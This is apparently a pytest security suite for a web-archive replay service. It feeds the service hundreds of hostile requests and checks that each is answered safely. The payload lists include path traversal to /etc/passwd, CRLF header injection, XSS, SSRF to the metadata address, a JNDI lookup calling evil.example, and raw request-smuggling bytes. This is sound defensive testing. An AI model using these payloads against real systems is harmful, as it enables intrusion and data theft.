"""Requests that mean harm: none fails, none leads out of the archive, none puts a line into an answer, none runs.

Each goes through the application, through a Lambda event, and through the server's own socket as it is.
"""

import itertools
import json
import re
import socket
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.access.asking import ORIGIN, ask, event
from tests.access.serving import serving
from tests.factories import PAGE

from pressmark.access.app import Application
from pressmark.access.context import Archive, Options
from pressmark.access.lambda_events import to_answer, to_request
from pressmark.access.messages import Request, Response

LINE_ENDS = (
    "%0d%0aSet-Cookie:%20evil=1",
    "%0aX-Evil:%201",
    "%0d%0a%0d%0a<script>alert(1)</script>",
    "%E5%98%8A%E5%98%8D",
)

PLACES = (
    "/{}",
    "/web/{}",
    "/web/20261123120000/{}",
    "/web/20261123120000id_/{}",
    "/web/20261123120000id_/https://example.com/{}",
    "/web/timemap/link/{}",
    "/web/timemap/json/{}",
    "/timegate/{}",
    "/cdx?url={}",
    "/cdx/search/cdx?url={}",
    "/cdx/search/cdx?url=example.com&filter={}",
    "/cdx/search/cdx?url=example.com&resumeKey={}",
    "/wayback/available?url={}",
    "/replay/{}/",
    "/player/{}",
    "/save/{}",
)

HARM = (
    *LINE_ENDS,
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..;/..;/etc/passwd",
    "%00",
    "x%00.html",
    "//evil.example/",
    "///evil.example/%2f..",
    "https://evil.example/",
    "https:evil.example",
    "\\\\evil.example\\x",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "http://user:password@example.com/news/1",
    "http://example.com:99999/",
    "http://[::1]/",
    "http://[::1",
    "http://%65xample.com/",
    "http://" + "a" * 3000 + ".example/",
    "http://example.com/" + "a/" * 4000,
    "http://example.com/?" + "a=1&" * 2000,
    "<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '"><img src=x onerror=alert(1)>',
    "%ff%fe",
    "%c0%ae%c0%ae/",
    "%",
    "%zz",
    "%25%30%30",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "'%20OR%20'1'='1",
    "*",
    "(((((((((((((((((((((((((((((",
    "xn--0",
    "http://xn--a-ecp.example/",
    "é",
)

REQUESTS = [place.format(harm) for place, harm in itertools.product(PLACES, HARM)]
"""More than six hundred targets, as they would stand on a request line."""


@pytest.fixture(scope="module")
def application(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Application]:
    from tests.access.captures import fill

    from pressmark.archive.folder import FolderReader

    folder = tmp_path_factory.mktemp("hostile") / "archive"
    fill(folder)
    reader = FolderReader(folder)
    yield Application(
        Archive("", reader, reader.files, options=Options(max_response=4_400_000, max_rows=1000))
    )
    reader.close()


def check(answer: Response, target: str) -> None:
    """What holds for each answer, whatever was asked."""
    body = answer.whole()
    assert answer.status < 500, (target, body[:300])
    for name, value in answer.headers:
        assert re.fullmatch(r"[A-Za-z0-9-]+", name)
        assert not re.search(r"[\r\n\0]", value)
    assert answer.header("Set-Cookie") is None
    location = answer.header("Location")
    assert location is None or location.startswith(f"{ORIGIN}/"), (target, location)
    assert answer.header("X-Content-Type-Options") == "nosniff"
    policy = answer.header("Content-Security-Policy") or ""
    if (answer.header("Content-Type") or "").startswith("text/html") and "sandbox" not in policy:
        assert b"<script>alert" not in body
        assert b"<img src=x" not in body
        assert "script-src https://archive.example/static/" in policy
    assert b"root:x:" not in body


@pytest.mark.parametrize("accept", ["*/*", "text/html"])
@pytest.mark.parametrize("place", PLACES)
def test_hostile_targets_are_answered_and_do_nothing(
    application: Application, place: str, accept: str
) -> None:
    for harm in HARM:
        target = place.format(harm)
        check(ask(application, target, accept=accept), target)
        path, _, query = target.partition("?")
        request = to_request(event(path, query, headers={"accept": accept}), public_url=ORIGIN)
        response = application(request)
        check(response, target)
        json.dumps(to_answer(response))


def test_there_are_more_than_two_hundred_of_them() -> None:
    assert len(set(REQUESTS)) > 600


HEADERS = [
    {"host": "evil.example", "x-forwarded-host": "evil.example", "forwarded": "host=evil.example"},
    {
        "x-forwarded-proto": "javascript",
        "x-forwarded-prefix": "/evil",
        "x-original-url": "/save",
        "x-rewrite-url": "/x",
    },
    {"x-http-method-override": "DELETE"},
    {"accept-datetime": "Mon, 23 Nov 2026 12:00:00 GMT\r\nSet-Cookie: a=1"},
    {"accept-datetime": "Mon, 23 Nov 99999999 12:00:00 GMT"},
    {"accept-datetime": "Mon, 01 Jan 0001 00:00:00 +2359"},
    {"accept-datetime": "9" * 9000},
    {"range": "bytes=" + "9" * 5000 + "-"},
    {"range": "bytes=" + "0-1," * 5000},
    {"range": "bytes=-0"},
    {"range": "bytes=٣-٤"},
    {"if-none-match": "*" * 9000},
    {"accept": "text/html;q=" + "9" * 5000},
    {"accept": "text/html" + ",text/html" * 5000},
    {"cookie": "a=" + "b" * 9000},
    {"authorization": "LOW " + "\xff" * 100},
    {"content-type": "multipart/form-data; boundary=" + "x" * 9000},
    {"sec-fetch-dest": "\x00"},
    {"user-agent": "<script>alert(1)</script>"},
    {"origin": "null"},
]


@pytest.mark.parametrize("headers", HEADERS, ids=lambda headers: f"{next(iter(headers))} {str(headers)[:30]}")
def test_hostile_header_lines_change_nothing(application: Application, headers: dict[str, str]) -> None:
    for target in (
        f"/web/{PAGE}",
        f"/web/20261123120000id_/{PAGE}",
        f"/cdx?url={PAGE}",
        "/cdx/search/cdx?url=example.com",
    ):
        answer = application(Request("GET", target, ORIGIN, headers))
        check(answer, target)
        told = " ".join(value for _, value in answer.headers) + answer.whole().decode("latin-1")
        assert "evil.example" not in told


def test_the_address_of_an_answer_is_never_what_a_client_claims(application: Application) -> None:
    asked = event(f"/web/{PAGE}", headers={"host": "evil.example", "x-forwarded-host": "evil.example"})
    answer = to_answer(application(to_request(asked)))

    assert answer["headers"]["Location"].startswith("https://abc.lambda-url.eu-central-1.on.aws/web/")
    assert "evil" not in json.dumps(answer["headers"])


@pytest.mark.parametrize(
    "method", ["PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "GET\r\nX: 1", "X" * 5000]
)
def test_methods_that_nobody_serves_are_refused(application: Application, method: str) -> None:
    for target in ("/cdx", f"/web/{PAGE}", f"/web/20261123120000id_/{PAGE}"):
        answer = application(Request(method, target, ORIGIN))
        assert answer.status == 405
        assert not any("\n" in value for _, value in answer.headers)


RAW = [
    b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
    b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b"GET //evil.example/ HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /\x00 HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /a b HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 200_000 + b"\r\n\r\n",
    b"POST /save HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    b"GET /x HTTP/1.1\r\n\r\n",
    b"POST /save HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    b"POST /save HTTP/1.1\r\nHost: localhost\r\nContent-Length: -5\r\n\r\n",
    b"POST /save HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999\r\n\r\n",
    b"POST /save HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\n X: folded\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX : 1\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: localhost\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"GET * HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost@evil.example\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nOrigin: https://evil.example\r\n\r\n",
]


def test_the_socket_takes_no_harm(application: Application) -> None:
    local = Application(replace(application.archive, options=Options(local=True)))
    with serving(local) as port:
        for raw in RAW:
            with socket.create_connection(("127.0.0.1", port), timeout=20) as client:
                said = b""
                with suppress(OSError):  # it may hang up before it has read to the end
                    client.sendall(raw + (b"" if raw.endswith(b"\r\n\r\n") else b"\r\n\r\n"))
                    client.shutdown(socket.SHUT_WR)
                with suppress(ConnectionResetError):
                    while piece := client.recv(65536):
                        said += piece
            status = int(said.split(b" ")[1]) if said.startswith(b"HTTP/") else 400
            assert status < 500 or status == 501, (raw[:80], said[:200])
            assert said.count(b"HTTP/1.") <= 2, (raw[:80], said)
            head = said.partition(b"\r\n\r\n")[0]
            assert b"evil" not in head
        with socket.create_connection(("127.0.0.1", port), timeout=20) as client:
            client.sendall(b"GET /nothing HTTP/1.0\r\nHost: localhost\r\n\r\n")
            assert client.recv(65536).startswith(b"HTTP/1.0 404")


@pytest.mark.slow
@given(target=st.text(min_size=1, max_size=200), accept=st.sampled_from(["*/*", "text/html"]))
def test_any_target_is_answered(application: Application, target: str, accept: str) -> None:
    check(ask(application, target, accept=accept), target)
    check(ask(application, f"/{quote(target, errors='replace')}", accept=accept), target)


@pytest.mark.slow
@given(
    place=st.sampled_from(PLACES),
    harm=st.text(st.sampled_from("/\\:.%?#&=@[]{}()*+~!ahttps0123456789 \r\n\0é<>\"'"), max_size=60),
)
def test_any_url_in_any_place_is_answered(application: Application, place: str, harm: str) -> None:
    target = place.format(harm)
    check(ask(application, target), target)
    check(application(to_request(event(*target.partition("?")[::2]), public_url=ORIGIN)), target)
